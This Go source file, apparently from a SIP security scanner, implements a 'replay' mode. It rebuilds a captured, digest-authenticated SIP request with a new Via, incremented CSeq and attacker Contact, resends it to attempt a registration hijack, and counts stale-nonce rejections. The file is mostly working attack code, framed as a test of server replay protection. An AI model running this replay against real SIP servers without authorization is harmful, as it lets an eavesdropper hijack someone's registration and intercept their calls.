package scanner

import (
	"bytes"
	"fmt"
	"strconv"
	"strings"

	"github.com/emiago/sipgo/sip"
)

// ModeReplay re-sends a captured request's credentials as a registration
// hijack: the Authorization an eavesdropper copied off the wire, in a new
// transaction whose Contact is the attacker's. Digest does not cover the
// Contact, so only the server's nonce bookkeeping (RFC 2617 §3.2.2 nc, a
// nonce used once) stops it.
const ModeReplay = "replay"

// replayRequest rebuilds captured as the attacker sends it: its own Via
// (new branch, so no server takes it for a retransmission), the next
// CSeq, and a Contact at the attacker; every other byte — Request-URI,
// From, To, Call-ID and the Authorization — as captured.
func (s *run) replayRequest() ([]byte, string, error) {
	head, body, ok := bytes.Cut(s.cfg.Message, []byte("\r\n\r\n"))
	if !ok {
		return nil, "", fmt.Errorf("%w: the message to replay has no end of headers", ErrBadConfig)
	}
	lines := strings.Split(string(head), "\r\n")
	if len(lines) < 2 || strings.HasPrefix(lines[0], "SIP/2.0") {
		return nil, "", fmt.Errorf("%w: the message to replay is not a request", ErrBadConfig)
	}
	method, _, _ := strings.Cut(lines[0], " ")
	var b strings.Builder
	b.WriteString(lines[0] + "\r\n")
	host := s.local.String()
	fmt.Fprintf(&b, "Via: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\n", host, token())
	callID, user, auth := "", "", false
	for _, l := range lines[1:] {
		name, val, _ := strings.Cut(l, ":")
		val = strings.TrimSpace(val)
		switch strings.ToLower(strings.TrimSpace(name)) {
		case "via", "v":
			continue
		case "cseq":
			n, m, _ := strings.Cut(val, " ")
			seq, err := strconv.ParseUint(n, 10, 32)
			if err != nil {
				return nil, "", fmt.Errorf("%w: the message to replay has CSeq %q", ErrBadConfig, val)
			}
			fmt.Fprintf(&b, "CSeq: %d %s\r\n", seq+1, m)
			continue
		case "contact", "m":
			continue // the attacker's own, below
		case "call-id", "i":
			callID = val
		case "from", "f":
			user = uriUser(val)
		case "authorization", "proxy-authorization":
			auth = true
		}
		b.WriteString(l + "\r\n")
	}
	if !auth {
		return nil, "", fmt.Errorf("%w: the message to replay carries no Authorization: nothing to replay", ErrBadConfig)
	}
	if callID == "" {
		return nil, "", fmt.Errorf("%w: the message to replay has no Call-ID", ErrBadConfig)
	}
	if method != "ACK" {
		fmt.Fprintf(&b, "Contact: <sip:%s@%s>\r\n", user, host)
	}
	b.WriteString("\r\n")
	b.Write(body)
	return []byte(b.String()), callID, nil
}

// uriUser is the user part of a From value ("<sip:alice@x>;tag=1" → alice).
func uriUser(v string) string {
	_, rest, ok := strings.Cut(v, "sip:")
	if !ok {
		return "anonymous"
	}
	u, _, ok := strings.Cut(rest, "@")
	if !ok {
		return "anonymous"
	}
	return u
}

// replay sends the rebuilt request once and notes whether a challenge
// said stale=true: the server recognised a used nonce.
func (s *run) replay() (*sip.Response, error) {
	req, callID, err := s.replayRequest()
	if err != nil {
		return nil, err
	}
	res, err := s.exchange(req, callID)
	if err != nil || res == nil {
		return res, err
	}
	for _, name := range []string{"WWW-Authenticate", "Proxy-Authenticate"} {
		if h := res.GetHeader(name); h != nil && strings.Contains(strings.ToLower(h.Value()), "stale=true") {
			s.rep.Stale++
		}
	}
	return res, nil
}
